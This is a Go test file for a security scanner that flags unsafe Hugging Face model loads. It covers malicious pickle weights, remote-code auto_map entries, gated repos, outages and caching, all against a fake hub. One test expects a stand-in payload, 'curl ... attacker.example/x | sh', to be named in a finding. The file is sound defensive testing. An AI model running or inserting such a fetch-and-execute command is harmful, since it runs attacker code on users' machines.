package hub

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ward-sec/ward/checks"
	"github.com/ward-sec/ward/checks/model/family"
	"github.com/ward-sec/ward/internal/fakehub"
)

// model files written by torch (see checks/model/modeldiff/testdata/gen.py)
func modelFile(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "model", "modeldiff", "testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

const token = "hf_test_reader"

func newHub(t *testing.T) *fakehub.Server {
	t.Helper()
	h := fakehub.New()
	t.Cleanup(h.Close)
	h.AddCommit("acme/evil", "main", map[string][]byte{
		"config.json":       []byte(`{"architectures": ["BertModel"], "model_type": "bert"}`),
		"pytorch_model.bin": modelFile(t, "payload.pt"),
		"README.md":         []byte("# evil\n"),
	})
	h.AddCommit("acme/good", "main", map[string][]byte{
		"config.json":       []byte(`{"model_type": "bert"}`),
		"model.safetensors": modelFile(t, "head.safetensors"),
		"pytorch_model.bin": modelFile(t, "payload.pt"), // not loaded: safetensors is preferred
	})
	h.AddCommit("acme/pickles", "main", map[string][]byte{"pytorch_model.bin": modelFile(t, "base.pt")})
	h.AddCommit("acme/remote", "main", map[string][]byte{
		"config.json":       []byte(`{"auto_map": {"AutoModel": "other/code--modeling_x.XModel", "AutoConfig": "configuration_x.XConfig"}}`),
		"model.safetensors": modelFile(t, "head.safetensors"),
	})
	h.AddCommit("acme/self", "main", map[string][]byte{
		"config.json":       []byte(`{"auto_map": {"AutoModel": "acme/self--modeling_x.XModel"}}`),
		"model.safetensors": modelFile(t, "head.safetensors"),
	})
	h.AddCommit("acme/gated", "main", map[string][]byte{"pytorch_model.bin": modelFile(t, "payload.pt")}, fakehub.Gated(token))
	return h
}

func rules(fs []checks.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, string(f.Severity.String())+" "+f.RuleID)
	}
	return out
}

func TestCheckCalls(t *testing.T) {
	h := newHub(t)
	goodSHA := h.AddCommit("acme/good", "main", map[string][]byte{
		"config.json":       []byte(`{"model_type": "bert"}`),
		"model.safetensors": modelFile(t, "head.safetensors"),
	})
	for _, tc := range []struct {
		name  string
		call  Call
		token string
		want  []string
		msg   string
	}{
		{"payload", Call{Repo: "acme/evil"}, "", []string{"critical hub-model-unsafe", "medium hub-model-pickle-only", "low hub-model-unpinned"},
			"This call loads pytorch_model.bin from acme/evil@main"},
		{"safetensors preferred", Call{Repo: "acme/good"}, "", []string{"low hub-model-unpinned"}, "resolves to"},
		{"pinned", Call{Repo: "acme/good", Revision: goodSHA}, "", nil, ""},
		{"pickle only", Call{Repo: "acme/pickles"}, "", []string{"medium hub-model-pickle-only", "low hub-model-unpinned"}, "only pickle weights"},
		{"auto_map", Call{Repo: "acme/remote"}, "", []string{"high hub-model-remote-code", "low hub-model-unpinned"}, "run code from other/code"},
		{"auto_map to its own repository", Call{Repo: "acme/self"}, "", []string{"low hub-model-unpinned"}, "resolves to"},
		{"gated without token", Call{Repo: "acme/gated"}, "", []string{"info hub-model-not-checked"}, "gated"},
		{"gated with token", Call{Repo: "acme/gated"}, token, []string{"critical hub-model-unsafe", "medium hub-model-pickle-only", "low hub-model-unpinned"}, "posix.system"},
		{"missing", Call{Repo: "acme/nothing"}, "", []string{"info hub-model-not-checked"}, "not found"},
		{"bad revision", Call{Repo: "acme/evil", Revision: "v9"}, "", []string{"info hub-model-not-checked"}, "not found"},
		{"named file", Call{Repo: "acme/evil", Filename: "pytorch_model.bin", Revision: "main"}, "", []string{"critical hub-model-unsafe", "low hub-model-unpinned"}, "a branch or tag"},
		{"dynamic revision", Call{Repo: "acme/evil", RevisionDynamic: true}, "", []string{"info hub-model-not-checked"}, "not a literal"},
		{"torch.hub", Call{Repo: "pytorch/vision", Source: "github"}, "", []string{"info hub-model-not-checked"}, "hubconf.py"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, tc.token, nil)}
			tc.call.Line = 7
			fs := c.Check(context.Background(), "app.py", []Call{tc.call})
			if got := rules(fs); strings.Join(got, ",") != strings.Join(tc.want, ",") {
				t.Fatalf("got %v, want %v\n%+v", got, tc.want, fs)
			}
			all := ""
			for _, f := range fs {
				all += f.Message + "\n"
			}
			if !strings.Contains(all, tc.msg) {
				t.Errorf("messages lack %q:\n%s", tc.msg, all)
			}
			for _, f := range fs {
				if f.Path != "app.py" || f.StartLine != 7 {
					t.Errorf("finding not on the call's line: %+v", f)
				}
			}
		})
	}
}

// The payload is named in the finding.
func TestPayloadNamed(t *testing.T) {
	h := newHub(t)
	c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, "", nil)}
	fs := c.Check(context.Background(), "app.py", []Call{{Line: 3, Repo: "acme/evil"}})
	if len(fs) == 0 || !strings.Contains(fs[0].Message, "curl -s https://attacker.example/x | sh") {
		t.Fatalf("payload not named: %+v", fs)
	}
}

// An outage or a long rate limit is a note, quickly; a short Retry-After is waited out.
func TestOutageAndRateLimit(t *testing.T) {
	h := newHub(t)
	c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, "", nil)}
	h.SetDown(true)
	start := time.Now()
	fs := c.Check(context.Background(), "app.py", []Call{{Line: 1, Repo: "acme/evil"}})
	if got := rules(fs); len(got) != 1 || got[0] != "info hub-model-not-checked" || !strings.Contains(fs[0].Message, "503") {
		t.Fatalf("outage: %+v", fs)
	}
	if time.Since(start) > 3*time.Second {
		t.Errorf("outage took %s", time.Since(start))
	}
	h.SetDown(false)
	h.SetRateLimit(1, time.Minute, 60)
	fs = c.Check(context.Background(), "app.py", []Call{{Line: 1, Repo: "acme/evil"}})
	if got := rules(fs); len(got) != 1 || !strings.Contains(fs[0].Message, "rate-limited") {
		t.Fatalf("long rate limit: %+v", fs)
	}
	h.SetRateLimit(2, 500*time.Millisecond, 1)
	fs = c.Check(context.Background(), "app.py", []Call{{Line: 1, Repo: "acme/evil"}})
	if got := rules(fs); len(got) == 0 || got[0] != "critical hub-model-unsafe" {
		t.Fatalf("short rate limit not waited out: %v", got)
	}
}

// Tree pages are followed; results are cached by commit and content, so a
// second review of the same model reads nothing but the commit lookup.
func TestPaginationAndCache(t *testing.T) {
	h := newHub(t)
	h.SetPageSize(1)
	cache := &MemoryCache{}
	c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, "", nil), Cache: cache}
	first := c.Check(context.Background(), "a.py", []Call{{Line: 1, Repo: "acme/evil"}})
	if len(first) == 0 || first[0].RuleID != RuleUnsafeModel {
		t.Fatalf("paginated tree: %+v", first)
	}
	_, ranges1, _, _ := h.Stats()
	second := c.Check(context.Background(), "b.py", []Call{{Line: 1, Repo: "acme/evil"}})
	_, ranges2, _, _ := h.Stats()
	if ranges2 != ranges1 {
		t.Errorf("cached model read again: %d → %d range requests", ranges1, ranges2)
	}
	if len(second) != len(first) || second[0].Message != first[0].Message {
		t.Errorf("cached result differs:\n%+v\n%+v", first, second)
	}
}

// A large checkpoint on the Hub costs its directory and pickle.
func TestLargeHubCheckpointIsRangeRead(t *testing.T) {
	h := newHub(t)
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	src, _ := zip.NewReader(bytes.NewReader(modelFile(t, "payload.pt")), int64(len(modelFile(t, "payload.pt"))))
	for _, f := range src.File {
		rc, _ := f.Open()
		data, _ := io.ReadAll(rc)
		w, _ := zw.CreateHeader(&zip.FileHeader{Name: f.Name, Method: zip.Store})
		w.Write(data)
	}
	w, _ := zw.CreateHeader(&zip.FileHeader{Name: "archive/data/99", Method: zip.Store})
	w.Write(make([]byte, 48<<20))
	zw.Close()
	h.AddCommit("acme/big", "main", map[string][]byte{"pytorch_model.bin": buf.Bytes()})
	c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, "", nil)}
	fs := c.Check(context.Background(), "a.py", []Call{{Line: 1, Repo: "acme/big"}})
	if len(fs) == 0 || fs[0].RuleID != RuleUnsafeModel {
		t.Fatalf("big checkpoint: %+v", fs)
	}
	_, _, served, full := h.Stats()
	if full != 0 || served > 1<<20 {
		t.Errorf("served %d bytes of %d (%d full downloads)", served, buf.Len(), full)
	}
	t.Logf("served %d bytes of a %d-byte checkpoint", served, buf.Len())
}
